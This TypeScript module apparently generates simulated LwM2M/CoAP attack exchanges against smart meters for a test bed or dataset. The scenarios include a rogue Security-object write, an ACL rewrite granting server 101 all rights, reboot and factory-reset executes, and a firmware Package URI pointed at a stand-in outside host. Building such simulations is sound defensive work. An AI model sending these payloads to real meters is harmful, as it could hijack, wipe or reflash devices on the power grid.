import { contentFormat, uriPath } from '../coap-options.js';
import { encodeResources, LWM2M_TLV } from '../payloads.js';
import { tlv } from '../tlv.js';
import type { AttackContext, AttackPlan } from './context.js';
import { exchange, METER_ROUND_TRIP_US } from './exchange.js';

const TEXT_PLAIN = 0;
/** OMA TLV types 1 and 2 (LwM2M 1.1 core, 7.4.3): one instance of a multiple resource, and the multiple resource. */
const TLV_RESOURCE_INSTANCE = 1;
const TLV_MULTIPLE_RESOURCE = 2;
/** A Short Server ID the fleet's server does not have. */
const ROGUE_SERVER_ID = 101;
/** ACL bits: Read, Write, Execute, Delete, Create. */
const ALL_RIGHTS = 0x1f;

/** Writes the Security object outside any bootstrap: only a bootstrap server may; the meter refuses (4.01). */
export function rogueSecurityWrite(ctx: AttackContext, attack: string): AttackPlan {
  const meter = ctx.victim(attack);
  const payload = encodeResources(LWM2M_TLV, [
    { object: 0, instance: 0, resource: 0, value: 'coap://203.0.113.66:5683' },
    { object: 0, instance: 0, resource: 2, value: 3 },
  ], 2);
  return { streams: [exchange(ctx, ctx.moment(), {
    attack, endpoint: meter.endpoint, operation: 'write', from: meter.server, to: meter.station,
    request: { code: 'PUT', options: [...uriPath('/0/0'), contentFormat(LWM2M_TLV)], payload },
    answer: { code: '4.01' }, answerAfterUs: METER_ROUND_TRIP_US,
  }).values()], events: [] };
}

/** A peer that is not the meter's server rewrites its Server object (lifetime 1 s); the meter obeys. */
export function unknownPeerServerWrite(ctx: AttackContext, attack: string): AttackPlan {
  const meter = ctx.victim(attack);
  const payload = encodeResources(LWM2M_TLV, [{ object: 1, instance: 0, resource: 1, value: 1 }], 2);
  return { streams: [exchange(ctx, ctx.moment(), {
    attack, endpoint: meter.endpoint, operation: 'write', from: ctx.stranger(), to: meter.station,
    request: { code: 'PUT', options: [...uriPath('/1/0'), contentFormat(LWM2M_TLV)], payload },
    answer: { code: '2.04' }, answerAfterUs: METER_ROUND_TRIP_US,
  }).values()], events: [] };
}

/** Execute (POST, no payload) from the meter's server on `path`; the meter answers 2.04. */
function execute(path: string) {
  return (ctx: AttackContext, attack: string): AttackPlan => {
    const meter = ctx.victim(attack);
    return { streams: [exchange(ctx, ctx.moment(), {
      attack, endpoint: meter.endpoint, operation: 'execute', from: meter.server, to: meter.station,
      request: { code: 'POST', options: uriPath(path) },
      answer: { code: '2.04' }, answerAfterUs: METER_ROUND_TRIP_US,
    }).values()], events: [] };
  };
}

/** Execute on a Device resource: /3/0/4 Reboot or /3/0/5 Factory Reset. */
export const deviceExecute = (resource: 4 | 5) => execute(`/3/0/${resource}`);

/** Execute on Firmware Update's Update resource (/5/0/2): the meter flashes whatever package it holds. */
export const firmwareUpdate = execute('/5/0/2');

/** The server rewrites the Access Control instance /2/0 (TLV; ACL /2/0/2 gives server 101 every right on /3/0); the meter accepts. */
export function aclWrite(ctx: AttackContext, attack: string): AttackPlan {
  const meter = ctx.victim(attack);
  const acl = tlv(TLV_MULTIPLE_RESOURCE, 2, tlv(TLV_RESOURCE_INSTANCE, ROGUE_SERVER_ID, Buffer.from([ALL_RIGHTS])));
  const payload = Buffer.concat([
    encodeResources(LWM2M_TLV, [{ object: 2, instance: 0, resource: 0, value: 3 }, { object: 2, instance: 0, resource: 1, value: 0 }], 2),
    acl,
    encodeResources(LWM2M_TLV, [{ object: 2, instance: 0, resource: 3, value: ROGUE_SERVER_ID }], 2),
  ]);
  return { streams: [exchange(ctx, ctx.moment(), {
    attack, endpoint: meter.endpoint, operation: 'write', from: meter.server, to: meter.station,
    request: { code: 'PUT', options: [...uriPath('/2/0'), contentFormat(LWM2M_TLV)], payload },
    answer: { code: '2.04' }, answerAfterUs: METER_ROUND_TRIP_US,
  }).values()], events: [] };
}

/** Points Firmware Update's Package URI (/5/0/1) at a host outside the operator's network. */
export function firmwareUri(ctx: AttackContext, attack: string): AttackPlan {
  const meter = ctx.victim(attack);
  return { streams: [exchange(ctx, ctx.moment(), {
    attack, endpoint: meter.endpoint, operation: 'write', from: meter.server, to: meter.station,
    request: { code: 'PUT', options: [...uriPath('/5/0/1'), contentFormat(TEXT_PLAIN)], payload: Buffer.from('coap://198.51.100.66:5683/fw/am-3305-2.4.2.bin') },
    answer: { code: '2.04' }, answerAfterUs: METER_ROUND_TRIP_US,
  }).values()], events: [] };
}
